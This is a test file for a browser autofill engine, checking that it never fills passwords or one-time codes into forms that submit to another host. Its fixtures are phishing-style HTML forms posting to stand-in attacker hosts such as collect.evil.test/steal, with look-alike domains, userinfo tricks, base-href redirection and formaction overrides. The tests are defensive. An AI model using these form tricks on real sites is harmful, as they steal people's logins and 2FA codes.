/**
 * DESIGN "Security rules" › Forms: no password or one-time code into a form
 * that submits off the task's host (its action, a submit button's
 * formaction, resolved like the browser), and such a form is never submitted.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { autofillDocument } from '../../../lib/autofill';
import { submitsOffHost } from '../../../lib/autofill/guard';
import { hostMatchesDomain } from '../../../lib/domain';
import { $, closeAll, data, page } from '../autofill/helpers';

afterEach(closeAll);

const LOGIN_URL = 'https://demo-social.test/login';
const fields = '<label for="u">Username</label><input id="u" name="username" autocomplete="username"><label for="p">Password</label><input id="p" type="password" autocomplete="current-password">';
const login = (formAttrs: string, button = '<button type="submit">Sign in</button>', after = '') => `<form id="f" ${formAttrs}>${fields}${button}</form>${after}`;
const onTask = (reach: 'subdomains' | 'exact' = 'subdomains') => (host: string) => hostMatchesDomain(host, 'demo-social.test', reach);

describe('where a form submits (submitsOffHost)', () => {
  const cases: [string, string, boolean, string?][] = [
    ['no action', login(''), false],
    ['empty action', login('action=""'), false],
    ['relative action', login('action="/session"'), false],
    ['relative action without a slash', login('action="session?next=/"'), false],
    ['absolute action on the task host', login('action="https://demo-social.test/session"'), false],
    ['action on a subdomain', login('action="https://auth.demo-social.test/session"'), false],
    ['javascript: action (stays in the page)', login('action="javascript:void 0"'), false],
    ['action on another host', login('action="https://collect.evil.test/steal"'), true],
    ['protocol-relative action on another host', login('action="//collect.evil.test/steal"'), true],
    ['a look-alike suffix', login('action="https://demo-social.test.evil.test/"'), true],
    ['a glued prefix', login('action="https://evildemo-social.test/"'), true],
    ['userinfo trick', login('action="https://demo-social.test@evil.test/"'), true],
    ['mailto:', login('action="mailto:thief@evil.test"'), true],
    ['data:', login('action="data:text/html,x"'), true],
    ['upper-case scheme and spaces', login('action="  HTTPS://evil.test/x "'), true],
    ['a submit button with formaction elsewhere', login('', '<button type="submit" formaction="https://evil.test/x">Go</button>'), true],
    ['a button without type (submits) with formaction elsewhere', login('', '<button formaction="https://evil.test/x">Go</button>'), true],
    ['input type=submit with formaction elsewhere', login('', '<input type="submit" formaction="https://evil.test/x" value="Go">'), true],
    ['input type=image with formaction elsewhere', login('', '<input type="image" alt="Go" formaction="https://evil.test/x">'), true],
    ['a type=button with formaction (never submits)', login('', '<button type="button" formaction="https://evil.test/x">Show</button>'), false],
    ['a submit button outside the form that points at it with form=', login(''), true, '<button form="f" formaction="https://evil.test/x">Go</button>'],
    ['formaction on the task host', login('', '<button formaction="/other">Go</button>'), false],
  ];
  for (const [name, html, off, after] of cases) {
    it(`${off ? 'off-host' : 'on-host'}: ${name}`, async () => {
      const { document: doc } = await page(html + (after ?? ''), LOGIN_URL);
      expect(submitsOffHost($(doc, '#p'), onTask())).toBe(off);
    });
  }

  it('resolves relative actions against <base href>, like the browser', async () => {
    const { document: doc } = await page(`<base href="https://evil.test/">${login('action="session"')}`, LOGIN_URL);
    expect(submitsOffHost($(doc, '#p'), onTask())).toBe(true);
  });

  it('reads the attribute, not a property a field named "action" clobbers', async () => {
    const { document: doc } = await page(login('action="https://evil.test/x"', '<input name="action" value="/login"><button>Go</button>'), LOGIN_URL);
    expect(submitsOffHost($(doc, '#p'), onTask())).toBe(true);
  });

  it('a sibling tenant of a hosting platform is another host (exact reach)', async () => {
    const { document: doc } = await page(login('action="https://mallory.demo-social.test/x"'), LOGIN_URL);
    expect(submitsOffHost($(doc, '#p'), onTask('subdomains'))).toBe(false);
    expect(submitsOffHost($(doc, '#p'), onTask('exact'))).toBe(true);
  });

  it('a field outside any form (the page posts it itself) has no action to check', async () => {
    const { document: doc } = await page(fields, LOGIN_URL);
    expect(submitsOffHost($(doc, '#p'), onTask())).toBe(false);
  });
});

describe('the engine and an off-host form', () => {
  it('fills no password into a form posting to another host, and never submits it', async () => {
    const { document: doc } = await page(login('action="https://collect.evil.test/steal"'), LOGIN_URL);
    let submits = 0;
    $(doc, '#f').addEventListener('submit', (e) => {
      e.preventDefault();
      submits++;
    });
    const r = autofillDocument(doc, data({ autoSubmitLogin: true }));
    expect($(doc, '#p').value).toBe('');
    expect(r.filled.some((f) => f.role === 'password')).toBe(false);
    expect(r.submitted).toBe(false);
    expect(submits).toBe(0);
    // fill again (force) does not change that
    autofillDocument(doc, data({ autoSubmitLogin: true }), { force: true });
    expect($(doc, '#p').value).toBe('');
    expect(submits).toBe(0);
  });

  it('a submit button with formaction elsewhere is enough to refuse', async () => {
    const { document: doc } = await page(login('action="/session"', '<button formaction="https://collect.evil.test/x">Sign in</button>'), LOGIN_URL);
    autofillDocument(doc, data());
    expect($(doc, '#p').value).toBe('');
  });

  it('an identifier step posting elsewhere is not submitted either', async () => {
    const { document: doc } = await page('<form id="f" action="https://collect.evil.test/next"><label for="u">Email or username</label><input id="u" name="username" autocomplete="username"><button>Next</button></form>', LOGIN_URL);
    let submits = 0;
    $(doc, '#f').addEventListener('submit', (e) => {
      e.preventDefault();
      submits++;
    });
    const r = autofillDocument(doc, data({ autoSubmitLogin: true }));
    expect(r.submitted).toBe(false);
    expect(submits).toBe(0);
  });

  it('no one-time code into a form posting elsewhere', async () => {
    const html = '<form action="https://collect.evil.test/otp"><label for="c">Authenticator code</label><input id="c" autocomplete="one-time-code" inputmode="numeric" maxlength="6"><button>Verify</button></form>';
    const { document: doc } = await page(html, 'https://demo-social.test/2fa');
    autofillDocument(doc, { ...data(), totp: { code: '492039', remaining: 20 } });
    expect($(doc, '#c').value).toBe('');
  });

  it('controls: the same forms posting to the task host are filled and submitted', async () => {
    for (const action of ['', 'action="/session"', 'action="https://demo-social.test/session"', 'action="https://login.demo-social.test/session"']) {
      const { document: doc } = await page(login(action), LOGIN_URL);
      let submits = 0;
      $(doc, '#f').addEventListener('submit', (e) => {
        e.preventDefault();
        submits++;
      });
      const r = autofillDocument(doc, data({ autoSubmitLogin: true }));
      expect($(doc, '#p').value, action).toBe(data().password);
      expect(r.submitted, action).toBe(true);
      expect(submits, action).toBe(1);
    }
    const otp = '<form action="/2fa"><label for="c">Authenticator code</label><input id="c" autocomplete="one-time-code" inputmode="numeric" maxlength="6"><button>Verify</button></form>';
    const { document: doc } = await page(otp, 'https://demo-social.test/2fa');
    autofillDocument(doc, { ...data(), totp: { code: '492039', remaining: 20 } });
    expect($(doc, '#c').value).toBe('492039');
  });
});
